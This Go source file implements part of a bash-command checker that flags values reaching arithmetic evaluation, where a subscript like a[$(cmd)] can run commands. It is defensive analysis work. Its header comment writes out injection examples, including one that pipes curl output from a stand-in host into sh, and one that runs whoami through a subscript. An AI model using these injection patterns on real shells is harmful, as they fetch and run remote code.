package shell

import (
	"fmt"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Bash evaluates some text as an arithmetic expression: $((...)), ((...)),
// let, for ((...)), the -eq family in [[ ]], indexed-array subscripts,
// ${v:offset:length}, and values given to integer variables (declare -i).
// Arithmetic evaluation expands again: a variable's value is evaluated as an
// expression in turn, and a subscript inside it, a[$(cmd)], runs cmd. Text
// the analysis sees as data therefore becomes code there:
//
//	x='a[$(curl -s evil | sh)]'; echo $((x))
//	echo $(( $(cat notes.txt) ))
//	[[ 'a[$(whoami)]' -eq 1 ]]
//
// So a value may reach arithmetic only when it is inert: numbers and
// operators written in the text, an arithmetic result, a variable assigned
// only such values in the text, one of bash's own numeric variables, or the
// output of a command that prints only a number. Anything else is denied as
// dynamic. Prompt expansion (${v@P}), indirect expansion (${!v}) and namerefs
// (declare -n) evaluate a value as code or as a name with a subscript in the
// same way, and are treated alike.

// varState is what the text has assigned to a variable so far.
type varState uint8

const (
	varInert   varState = 1 // every value assigned so far is inert
	varTainted varState = 2 // some value assigned was not (this sticks)
)

// setVar records an assignment to name (every kind of assignment comes
// here); a non-inert value taints it for the
// rest of the text, whatever is assigned later, since a branch or loop may
// have skipped the later assignment.
func (c *checker) setVar(name string, inert bool) {
	if name == "" {
		return
	}
	c.define(name)
	delete(c.vars, name) // no longer the for loop's value
	if name == "IFS" && !c.prefixOnly {
		c.ifsSet = true // unquoted expansions now split where it says
	}
	if c.vals == nil {
		c.vals = map[string]varState{}
	}
	if !inert {
		c.vals[name] = varTainted
	} else if c.vals[name] == 0 {
		c.vals[name] = varInert
	}
}

// numericVar reports bash's own variables whose value is always a number.
func numericVar(name string) bool {
	switch name {
	case "#", "?", "$", "!", "RANDOM", "SRANDOM", "SECONDS", "LINENO", "PPID", "BASHPID",
		"UID", "EUID", "EPOCHSECONDS", "EPOCHREALTIME", "OPTIND", "HISTCMD", "SHLVL":
		return true
	}
	return false
}

// varInertNow reports whether name's value is known to be inert here.
func (c *checker) varInertNow(name string) bool {
	if c.vals[name] == varTainted {
		return false
	}
	if v, ok := c.vars[name]; ok {
		return inertText(v)
	}
	return numericVar(name) || (c.vals[name] == varInert && c.defined[name])
}

// inertText reports text that evaluates to a number with nothing expanded:
// no $, no backquote, no name (a name is a variable, evaluated in turn).
// Numbers may carry letters (0x1f, 16#ff): a run that starts with a digit is
// one number.
func inertText(s string) bool {
	for i := 0; i < len(s); {
		ch := s[i]
		switch {
		case ch == '$' || ch == '`':
			return false
		case ch >= '0' && ch <= '9':
			for i < len(s) && (isWordByte(s[i]) || s[i] == '#' || s[i] == '@') {
				i++
			}
		case isWordByte(ch):
			return false
		default:
			i++
		}
	}
	return true
}

func isWordByte(ch byte) bool {
	return ch == '_' || ch >= '0' && ch <= '9' || ch >= 'a' && ch <= 'z' || ch >= 'A' && ch <= 'Z'
}

// arithLitProblem checks literal text evaluated as arithmetic: it may hold
// numbers, operators and names of inert variables. It returns what is wrong,
// or "".
func (c *checker) arithLitProblem(s string) string {
	if strings.ContainsAny(s, "$`") {
		return "it contains text that bash expands there ($ or a backquote)"
	}
	for i := 0; i < len(s); {
		ch := s[i]
		switch {
		case ch >= '0' && ch <= '9':
			for i < len(s) && (isWordByte(s[i]) || s[i] == '#' || s[i] == '@') {
				i++
			}
		case isWordByte(ch):
			j := i
			for j < len(s) && isWordByte(s[j]) {
				j++
			}
			if name := s[i:j]; !c.varInertNow(name) {
				return c.whyNotInert(name)
			}
			i = j
		default:
			i++
		}
	}
	return ""
}

func (c *checker) whyNotInert(name string) string {
	if c.vals[name] == varTainted {
		return fmt.Sprintf("%s is assigned a value in the text that is not a plain number", name)
	}
	if c.vals[name] == varInert {
		return fmt.Sprintf("%s is assigned only on some paths (a branch, a loop, a subshell), so it may hold a value set outside the text", name)
	}
	return fmt.Sprintf("%s has a value set outside the text", name)
}

// arithDeny reports a value that reaches arithmetic evaluation and is not inert.
func (c *checker) arithDeny(what, why string) {
	c.arithDenyIn(what, what, why)
}

func (c *checker) arithDenyIn(command, what, why string) {
	c.add(Finding{Code: CodeDynamic, Command: command,
		Message: fmt.Sprintf("bash evaluates %s as arithmetic, and %s; a value there such as a[$(cmd)] runs cmd, so only numbers, arithmetic results and variables assigned those in the text may appear", what, why)})
}

// sinkWord checks a word that bash evaluates as arithmetic.
func (c *checker) sinkWord(w *syntax.Word) {
	if w == nil {
		return
	}
	if why := c.partsArithProblem(w.Parts); why != "" {
		c.arithDeny(c.wordText(w), why)
	}
}

func (c *checker) partsArithProblem(parts []syntax.WordPart) string {
	for _, part := range parts {
		why := ""
		switch p := part.(type) {
		case *syntax.Lit:
			why = c.arithLitProblem(p.Value)
		case *syntax.SglQuoted:
			v, ok := p.Value, true
			if p.Dollar {
				v, ok = ansiC(v)
			}
			if why = c.arithLitProblem(v); why == "" && !ok {
				why = fmt.Sprintf("%s cannot be decoded", c.wordText(p))
			}
		case *syntax.DblQuoted:
			why = c.partsArithProblem(p.Parts)
		case *syntax.ParamExp:
			why = c.paramArithProblem(p)
		case *syntax.CmdSubst:
			if !c.numericOutput(p.Stmts) {
				why = fmt.Sprintf("the output of %s is not known to be a number", c.wordText(p))
			}
		case *syntax.ArithmExp:
			// a number; its own expression is checked where it is walked
		default:
			why = fmt.Sprintf("%s is not a number written in the text", c.wordText(part))
		}
		if why != "" {
			return why
		}
	}
	return ""
}

// paramArithProblem checks $v, ${v}, ${#v} and a[i] inside arithmetic.
func (c *checker) paramArithProblem(p *syntax.ParamExp) string {
	if p.Param == nil || p.NestedParam != nil || p.Excl || p.Names != 0 || p.Slice != nil || p.Repl != nil || p.Exp != nil || len(p.Modifiers) != 0 {
		return fmt.Sprintf("%s is not a plain variable", c.wordText(p))
	}
	if p.Length {
		return "" // ${#v}: a length
	}
	name := p.Param.Value
	if name >= "0" && name <= "9" && len(name) == 1 {
		return fmt.Sprintf("the positional parameter $%s has a value set outside the text", name)
	}
	if !c.varInertNow(name) {
		return c.whyNotInert(name)
	}
	return ""
}

// numericOutput reports command substitutions that can print only a number:
// a single pipeline whose last command is wc counting its standard input,
// grep -c on standard input or one file, date or stat with a numeric format,
// nproc, id -u/-g, or seq over numbers.
func (c *checker) numericOutput(stmts []*syntax.Stmt) bool {
	if len(stmts) != 1 || stmts[0].Background || stmts[0].Negated {
		return false
	}
	cmd := stmts[0].Cmd
	for {
		b, ok := cmd.(*syntax.BinaryCmd)
		if !ok || (b.Op != syntax.Pipe && b.Op != syntax.PipeAll) {
			break
		}
		cmd = b.Y.Cmd
		if b.Y.Background || b.Y.Negated || len(b.Y.Redirs) > 0 {
			return false
		}
	}
	ce, ok := cmd.(*syntax.CallExpr)
	if !ok || len(ce.Args) == 0 || len(ce.Assigns) > 0 {
		return false
	}
	argv := make([]string, 0, len(ce.Args))
	for _, w := range ce.Args {
		f := c.field(w)
		if !f.known() {
			return false
		}
		argv = append(argv, f.val)
	}
	args := argv[1:]
	switch argv[0] {
	case "wc":
		// counts of standard input only: with a file operand wc prints its name
		for _, a := range args {
			switch a {
			case "-l", "-c", "-w", "-m", "-L", "--lines", "--bytes", "--words", "--chars", "--max-line-length":
			default:
				return false
			}
		}
		return len(args) == 1
	case "date":
		for _, a := range args {
			if a == "-u" || a == "--utc" {
				continue
			}
			if !strings.HasPrefix(a, "+") || !numericDateFormat(a[1:]) {
				return false
			}
		}
		return len(args) > 0
	case "grep", "egrep", "fgrep":
		return grepCountsOnly(ce.Args[1:], c)
	case "stat":
		// stat -c FORMAT / --format=FORMAT / --printf=FORMAT with numeric fields only
		for i, a := range args {
			format := ""
			switch {
			case (a == "-c" || a == "--format" || a == "--printf") && i+1 < len(args):
				format = args[i+1]
			case strings.HasPrefix(a, "--format="), strings.HasPrefix(a, "--printf="):
				_, format, _ = strings.Cut(a, "=")
			default:
				continue
			}
			return numericFormat(format, "siugahXYZWbBdo")
		}
		return false
	case "nproc":
		return len(args) == 0
	case "id":
		return len(args) == 1 && (args[0] == "-u" || args[0] == "-g")
	case "seq":
		for _, a := range args {
			if !inertText(a) || a == "" {
				return false
			}
		}
		return len(args) > 0 && len(args) <= 3
	}
	return false
}

// numericDateFormat reports a date format whose output has only digits and
// punctuation.
func numericDateFormat(f string) bool {
	return numericFormat(f, "sNYmdHMSjuwyCGgVUWIklez%")
}

// numericFormat reports a %-format (date, stat) whose every directive is one
// of the numeric ones, with GNU flags and widths (%-d, %3N), and whose other
// text has no letters.
func numericFormat(f, numeric string) bool {
	for i := 0; i < len(f); i++ {
		ch := f[i]
		if ch == '%' {
			i++
			for i < len(f) && strings.IndexByte("-_0^#:123456789", f[i]) >= 0 {
				i++
			}
			if i == len(f) || strings.IndexByte(numeric, f[i]) < 0 {
				return false
			}
			continue
		}
		if ch == '\\' || isWordByte(ch) && (ch < '0' || ch > '9') {
			return false
		}
	}
	return true
}

// grepCountsOnly reports grep -c on standard input or on one file: it prints
// a count and nothing else (with more files, or -r, each count follows a
// file name).
func grepCountsOnly(words []*syntax.Word, c *checker) bool {
	args := make([]field, 0, len(words))
	for _, w := range words {
		f := c.field(w)
		if !f.known() {
			return false
		}
		args = append(args, f)
	}
	opts, pos := parseArgs(args, "efmABCd", " regexp file max-count after-context before-context context devices directories include exclude exclude-dir label color colour binary-files ")
	count, patterns := false, false
	for _, o := range opts {
		switch o.name {
		case "-c", "--count":
			count = true
		case "-e", "--regexp", "-f", "--file":
			patterns = true
		case "-r", "-R", "--recursive", "--dereference-recursive", "-H", "--with-filename", "-l", "-L",
			"--files-with-matches", "--files-without-match", "-Z", "--null", "-d", "--directories":
			return false
		}
	}
	files := len(pos)
	if !patterns {
		files--
	}
	return count && files >= 0 && files <= 1
}

// wordInert reports whether a word's value is inert: it may be evaluated as
// arithmetic later without running anything.
func (c *checker) wordInert(w *syntax.Word) bool {
	if w == nil {
		return true
	}
	return c.partsInert(w.Parts)
}

func (c *checker) partsInert(parts []syntax.WordPart) bool {
	for _, part := range parts {
		switch p := part.(type) {
		case *syntax.Lit:
			if !inertText(p.Value) {
				return false
			}
		case *syntax.SglQuoted:
			v, ok := p.Value, true
			if p.Dollar {
				v, ok = ansiC(v)
			}
			if !ok || !inertText(v) {
				return false
			}
		case *syntax.DblQuoted:
			if !c.partsInert(p.Parts) {
				return false
			}
		case *syntax.ParamExp:
			if p.Excl && p.Param != nil && !c.assoc[p.Param.Value] && isAllIndex(p.Index) {
				continue // ${!a[@]}: the indices of an indexed array, numbers
			}
			if c.paramArithProblem(p) != "" {
				return false
			}
		case *syntax.CmdSubst:
			if !c.numericOutput(p.Stmts) {
				return false
			}
		case *syntax.ArithmExp:
		case *syntax.BraceExp: // {1..5}, {1,2}: inert when every element is
			for _, e := range p.Elems {
				if !c.wordInert(e) {
					return false
				}
			}
		default:
			return false
		}
	}
	return true
}

// arithTarget is the variable an arithmetic assignment or ++/-- sets, and
// its subscript if any.
func arithTarget(e syntax.ArithmExpr) (string, syntax.ArithmExpr) {
	w, ok := e.(*syntax.Word)
	if !ok || len(w.Parts) != 1 {
		return "", nil
	}
	switch p := w.Parts[0].(type) {
	case *syntax.Lit:
		return p.Value, nil
	case *syntax.ParamExp:
		if p.Param != nil {
			return p.Param.Value, p.Index
		}
	}
	return "", nil
}

func isArithAssign(op syntax.BinAritOperator) bool {
	switch op {
	case syntax.Assgn, syntax.AddAssgn, syntax.SubAssgn, syntax.MulAssgn, syntax.QuoAssgn,
		syntax.RemAssgn, syntax.AndAssgn, syntax.OrAssgn, syntax.XorAssgn, syntax.ShlAssgn,
		syntax.ShrAssgn, syntax.AndBoolAssgn, syntax.OrBoolAssgn, syntax.XorBoolAssgn, syntax.PowAssgn:
		return true
	}
	return false
}

// isArithTest reports the [[ ]] operators that compare arithmetic values.
func isArithTest(op syntax.BinTestOperator) bool {
	switch op {
	case syntax.TsEql, syntax.TsNeq, syntax.TsLeq, syntax.TsGeq, syntax.TsLss, syntax.TsGtr:
		return true
	}
	return false
}

// nameProblem checks a variable name given as an operand (read NAME,
// printf -v NAME, unset NAME, declare NAME=..., a nameref's target): bash
// evaluates a subscript in it as arithmetic.
func (c *checker) nameProblem(name string) string {
	i := strings.IndexByte(name, '[')
	if i < 0 {
		return ""
	}
	base, sub := name[:i], strings.TrimSuffix(name[i+1:], "]")
	if c.assoc[base] {
		if strings.ContainsAny(sub, "$`") {
			return "its subscript contains text that bash expands ($ or a backquote)"
		}
		return ""
	}
	return c.arithLitProblem(sub)
}

// checkName reports a variable-name operand, in the command text, whose
// subscript is not inert.
func (c *checker) checkName(name, text string) {
	if why := c.nameProblem(name); why != "" {
		c.arithDenyIn(text, "the subscript of "+name, why)
	}
}

// paramCode reports parameter expansions that evaluate a value as code or as
// a variable name: ${v@P} (prompt expansion runs $(...) in the value) and
// ${!v} (indirect: the value names a variable, with a subscript evaluated).
func (c *checker) paramCode(p *syntax.ParamExp) {
	if p.Exp != nil && p.Exp.Op == syntax.OtherParamOps && p.Exp.Word != nil {
		if f := c.field(p.Exp.Word); !f.lit || strings.Contains(f.val, "P") {
			c.add(Finding{Code: CodeDynamic, Command: c.wordText(p),
				Message: fmt.Sprintf("%s expands the value as a prompt, which runs any $(...) in it; it cannot be checked", c.wordText(p))})
		}
	}
	if p.Excl && p.Names == 0 && p.Param != nil {
		if w, ok := p.Index.(*syntax.Word); ok {
			if f := c.field(w); f.lit && (f.val == "@" || f.val == "*") {
				return // ${!a[@]}: the keys of an array
			}
		}
		if v, ok := c.vars[p.Param.Value]; ok && syntax.ValidName(v) {
			return
		}
		c.add(Finding{Code: CodeDynamic, Command: c.wordText(p),
			Message: fmt.Sprintf("%s uses the value of %s as a variable name, and bash evaluates a subscript in it (a[$(cmd)] runs cmd); it cannot be checked", c.wordText(p), p.Param.Value)})
	}
}

func isAllIndex(e syntax.ArithmExpr) bool {
	w, ok := e.(*syntax.Word)
	return ok && (w.Lit() == "@" || w.Lit() == "*")
}
